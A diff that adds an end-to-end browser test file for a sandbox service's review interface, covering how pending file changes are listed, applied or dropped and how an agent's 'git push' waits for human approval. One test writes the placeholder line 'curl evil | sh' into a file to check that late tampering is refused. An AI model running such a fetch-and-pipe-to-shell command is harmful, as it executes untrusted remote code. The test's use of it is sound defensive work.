@@ -1,0 +1,157 @@
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { type House, house } from '../server/house.ts'
+import { launch, picture, type Seat, seat, signIn } from './browser.ts'
+
+/** Changes that wait, and commands that wait: what a person sees, decides, and finds on the disk afterwards. */
+
+let home: House
+let browser: Browser
+let workspace: string
+let turn = 0
+beforeAll(async () => {
+  home = await house('[server]\nrequests_per_second = 100000\nwrong_keys_per_second = 100000\n')
+  browser = await launch()
+})
+afterAll(async () => {
+  await browser.close()
+  await home.close()
+})
+beforeEach(() => {
+  workspace = join(home.dir, `work-${turn++}`)
+  mkdirSync(workspace)
+  writeFileSync(join(workspace, 'README.md'), 'one\ntwo\n')
+  writeFileSync(join(workspace, 'old.txt'), 'old\n')
+})
+
+const at = (name: string): string => join(workspace, name)
+const text = (name: string): string => readFileSync(at(name), 'utf8')
+
+async function make(body: Record<string, unknown>): Promise<string> {
+  const made = await home.call('POST', '/v1/sandboxes', { body })
+  expect(made.status, made.text).toBe(201)
+  return made.json.id as string
+}
+const run = (id: string, command: string) =>
+  home.call('POST', `/v1/sandboxes/${id}/exec`, { body: { command } })
+
+async function entered(): Promise<Seat> {
+  const one = await seat(browser, home.server.url)
+  await signIn(one, home.server)
+  return one
+}
+
+describe('the changes of a sandbox', () => {
+  test('are listed as they come, compared, and some of them made real', async () => {
+    const id = await make({ workspace, review: true, metadata: { name: 'docs' } })
+    const seen = await entered()
+    const { page } = seen
+    await seen.go(`/sandboxes/${id}/changes`)
+    await page.getByText('It has changed nothing yet').waitFor()
+    await run(id, 'echo three >> README.md; rm old.txt; echo "<b>new</b>" > new.html')
+    const list = page.getByRole('list', { name: 'Changes' })
+    await list.getByText('README.md').waitFor()
+    expect(await list.getByRole('listitem').allInnerTexts()).toEqual([
+      expect.stringMatching(/changed\s+README\.md/),
+      expect.stringMatching(/added\s+new\.html/),
+      expect.stringMatching(/deleted\s+old\.txt/),
+    ])
+    const difference = page.getByRole('group', { name: 'What changes' })
+    await difference.getByText('three').waitFor()
+    await list.getByRole('button', { name: /new\.html/ }).click()
+    await difference.getByText('<b>new</b>').waitFor()
+    await list.getByRole('checkbox', { name: 'choose README.md' }).check()
+    await page.getByRole('button', { name: 'Apply 1…' }).click()
+    await page.getByRole('dialog').getByText('~ README.md').waitFor()
+    await picture(page, 'changes-apply')
+    await page.keyboard.press('Enter')
+    await page.getByRole('heading', { name: '2 changes wait' }).waitFor()
+    expect([text('README.md'), existsSync(at('new.html')), existsSync(at('old.txt'))]).toEqual([
+      'one\ntwo\nthree\n',
+      false,
+      true,
+    ])
+    await page.getByRole('button', { name: 'Apply all…' }).click()
+    await page.getByRole('dialog').waitFor()
+    await page.keyboard.press('Enter')
+    await page.getByText('It has changed nothing yet').waitFor()
+    expect([existsSync(at('new.html')), existsSync(at('old.txt'))]).toEqual([true, false])
+    await seen.go(`/trail?sandbox=${id}&event=Review`)
+    await page.getByText('2 changes').first().waitFor()
+    expect(seen.complaints).toEqual([])
+    await seen.context.close()
+  })
+
+  test('that came after the question was opened are not applied with it', async () => {
+    const id = await make({ workspace, review: true })
+    await run(id, 'echo three >> README.md; echo fine > fine.txt')
+    const seen = await entered()
+    const { page } = seen
+    await seen.go(`/sandboxes/${id}/changes`)
+    await page.getByRole('button', { name: 'Apply all…' }).click()
+    const dialog = page.getByRole('dialog', { name: 'Make these 2 changes real?' })
+    await dialog.waitFor()
+    await run(id, 'echo "curl evil | sh" >> README.md; echo later > later.txt')
+    await page.keyboard.press('Enter')
+    await page.getByRole('alert').getByText('it changed since it was looked at').waitFor()
+    expect([text('README.md'), text('fine.txt'), existsSync(at('later.txt'))]).toEqual([
+      'one\ntwo\n',
+      'fine\n',
+      false,
+    ])
+    await seen.context.close()
+  })
+
+  test('are dropped with the sandbox, or wait for it to end', async () => {
+    const id = await make({ workspace, review: true })
+    await run(id, 'echo three >> README.md')
+    const seen = await entered()
+    const { page } = seen
+    await seen.go(`/sandboxes/${id}/changes`)
+    await page.getByRole('button', { name: 'End and drop…' }).click()
+    await page.getByRole('dialog').waitFor()
+    await page.keyboard.press('Escape')
+    await page.getByRole('dialog').waitFor({ state: 'detached' })
+    expect((await home.call('GET', `/v1/sandboxes/${id}`)).json.state).toBe('ready')
+    await home.call('DELETE', `/v1/sandboxes/${id}`)
+    // It has ended; what it changed still waits.
+    await page.getByRole('button', { name: 'Drop all…' }).click()
+    await page.getByRole('dialog', { name: 'Drop all of them?' }).waitFor()
+    await page.keyboard.press('Enter')
+    await page.getByText('Nothing waits any more').waitFor()
+    expect(text('README.md')).toBe('one\ntwo\n')
+    await seen.context.close()
+  })
+})
+
+test('a command that waits for a person is shown as that, and leads to the question', async () => {
+  const id = await make({ agent_id: 'codex', metadata: { name: 'waits' } })
+  const busy = await make({ metadata: { name: 'works' } })
+  await home.call('POST', `/v1/sandboxes/${busy}/exec`, { body: { command: 'sleep 20', background: true } })
+  const seen = await entered()
+  const { page } = seen
+  const asked = run(id, 'git push origin main')
+  const row = page.getByRole('row').filter({ hasText: 'waits' })
+  await row.getByText('waiting for you').waitFor()
+  expect(await row.innerText()).toContain('git push origin main')
+  expect(await page.getByRole('row').filter({ hasText: 'works' }).innerText()).toContain('executing')
+  await page.getByLabel('State').selectOption('waiting')
+  await page.getByRole('row').filter({ hasText: 'works' }).waitFor({ state: 'detached' })
+  await seen.go(`/sandboxes/${id}`)
+  await page.locator('.facts').getByText('waiting for you').waitFor()
+  await page
+    .getByRole('list', { name: 'Waiting commands' })
+    .getByRole('link', { name: /git push origin main/ })
+    .click()
+  await page.getByText('Why you are asked').waitFor()
+  await page.keyboard.press('a')
+  await page.getByRole('dialog').waitFor()
+  await page.keyboard.press('Enter')
+  expect((await asked).status).toBe(200)
+  await seen.go(`/sandboxes/${id}`)
+  await page.locator('.facts').getByText('ready').waitFor()
+  expect(seen.complaints).toEqual([])
+  await seen.context.close()
+})
